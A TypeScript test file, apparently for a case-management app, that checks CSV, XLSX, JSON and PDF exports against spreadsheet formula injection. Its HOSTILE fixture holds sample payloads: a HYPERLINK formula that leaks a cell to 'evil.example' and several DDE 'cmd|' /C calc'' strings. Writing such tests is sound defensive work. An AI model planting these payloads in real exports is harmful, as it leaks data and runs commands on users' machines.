import { CoalitionRole, startsFormula } from '@coalition/shared';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { startTestApp, type TestApp } from '../../../test/support/test-app';
import { coalitionUser, orgWithMembers, type TestOrgWithMembers } from '../../../test/support/factories';
import type { TestClient } from '../../../test/support/test-client';
import { ADD_EVENT, createCase } from '../../../test/support/case-fixtures';
import { pdfText } from '../../../test/support/pdf-text';

// What an outsider typed to turn an export into a live formula in LibreOffice or Excel, one for each dangerous first character.
const HOSTILE = {
  title: '=HYPERLINK("http://evil.example/?leak="&B2,"Open the file")',
  summary: '+cmd|\' /C calc\'!A0',
  city: '-2+3+cmd|\' /C calc\'!A0',
  region: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  eventTitle: '=1+1',
  // The API trims text, so these two are written into the database directly, as older or imported data might hold them.
  eventDescription: '\t=2+2',
  eventAuthority: '\r=3+3',
  briefingTitle: '=HYPERLINK("http://evil.example","Embassy briefing")',
  audience: '@Embassy',
};
const RAW = Object.values(HOSTILE);

/** Every cell of a CSV; each must be plain text, and each hostile value must come back behind exactly one `'`. */
function checkCsv(bytes: Buffer): string[] {
  const rows = parse(bytes, { bom: true, relax_column_count: true }) as string[][];
  const cells = rows.flat();
  for (const cell of cells) if (startsFormula(cell)) throw new Error(`a CSV cell starts a formula: ${JSON.stringify(cell)}`);
  return cells;
}

/** Every cell of a workbook: never a formula; text cells are strings holding exactly what was typed. */
async function checkXlsx(bytes: Buffer): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const texts: string[] = [];
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula).toBeUndefined();
        if (typeof cell.value === 'string') {
          expect(cell.type).toBe(ExcelJS.ValueType.String);
          texts.push(cell.value);
        }
      }),
    );
  }
  return texts;
}

describe('exports: no cell of any file becomes a formula', () => {
  let app: TestApp;
  let org: TestOrgWithMembers;
  let liaison: TestClient;
  let caseId: string;

  beforeAll(async () => {
    app = await startTestApp();
    org = await orgWithMembers(app);
    liaison = (await coalitionUser(app, CoalitionRole.LIAISON)).client;
    const c = await createCase(org.caseworker, org.org.id, {
      title: HOSTILE.title, summary: HOSTILE.summary, location: { city: HOSTILE.city, region: HOSTILE.region, countryCode: 'RU' },
    });
    caseId = c.id;
    await org.caseworker.ok(ADD_EVENT, { caseId, input: { type: 'DETENTION', occurredOn: '2013-02-08', title: HOSTILE.eventTitle, description: 'x', authority: 'y' } });
    await app.deps.dataSource.query(`UPDATE case_events SET description = $2, authority = $3 WHERE case_id = $1`, [
      caseId, HOSTILE.eventDescription, HOSTILE.eventAuthority,
    ]);
  });
  afterAll(() => app.close());

  it('case export: CSV cells behind a quote, XLSX string cells, JSON as typed', async () => {
    const csv = checkCsv(Buffer.from(await (await org.viewer.get('/exports/cases.csv')).arrayBuffer()));
    for (const value of [HOSTILE.title, HOSTILE.summary, HOSTILE.city, HOSTILE.region]) expect(csv).toContain(`'${value}`);

    const xlsx = await checkXlsx(Buffer.from(await (await org.viewer.get('/exports/cases.xlsx')).arrayBuffer()));
    for (const value of [HOSTILE.title, HOSTILE.summary, HOSTILE.city, HOSTILE.region]) expect(xlsx).toContain(value);

    // The export lists every case the viewer may read, other test files' coalition-wide cases too.
    const json = ((await (await org.viewer.get('/exports/cases.json')).json()) as Record<string, unknown>[]).find((c) => c.id === caseId);
    expect(json).toMatchObject({ title: HOSTILE.title, summary: HOSTILE.summary, city: HOSTILE.city, region: HOSTILE.region });
  });

  it('briefing files: CSV cells behind a quote, XLSX string cells, JSON and PDF as typed', async () => {
    const FIELDS = `id files { format url }`;
    const { id } = (await org.caseworker.ok<{ createBriefing: { id: string } }>(
      `mutation ($input: CreateBriefingInput!) { createBriefing(input: $input) { id } }`,
      { input: { organisationId: org.org.id, title: HOSTILE.briefingTitle, audience: HOSTILE.audience, caseIds: [caseId] } },
    )).createBriefing;
    await org.caseworker.ok(`mutation ($id: ID!) { submitBriefing(id: $id) { id } }`, { id });
    await org.admin.ok(`mutation ($id: ID!, $org: ID!) { decideBriefing(id: $id, organisationId: $org, approve: true) { id } }`, { id, org: org.org.id });
    const files = (await org.admin.ok<{ releaseBriefing: { files: { format: string; url: string }[] } }>(
      `mutation ($id: ID!) { releaseBriefing(id: $id) { ${FIELDS} } }`, { id },
    )).releaseBriefing.files;
    const download = async (format: string) => Buffer.from(await (await liaison.get(files.find((f) => f.format === format)!.url)).arrayBuffer());

    const csv = checkCsv(await download('CSV'));
    for (const value of RAW) expect(csv).toContain(`'${value}`);
    const xlsx = await checkXlsx(await download('XLSX'));
    // XML reads a carriage return back as a line feed (end-of-line handling): the cell is still that string.
    for (const value of RAW) expect(xlsx).toContain(value.replace(/\r/g, '\n'));
    const json = (await download('JSON')).toString('utf8');
    for (const value of RAW) expect(json).toContain(JSON.stringify(value));
    const pdf = pdfText(await download('PDF')).replace(/\s+/g, '');
    for (const value of [HOSTILE.title, HOSTILE.summary, HOSTILE.briefingTitle, HOSTILE.eventTitle]) expect(pdf).toContain(value.replace(/\s+/g, ''));
  });
});
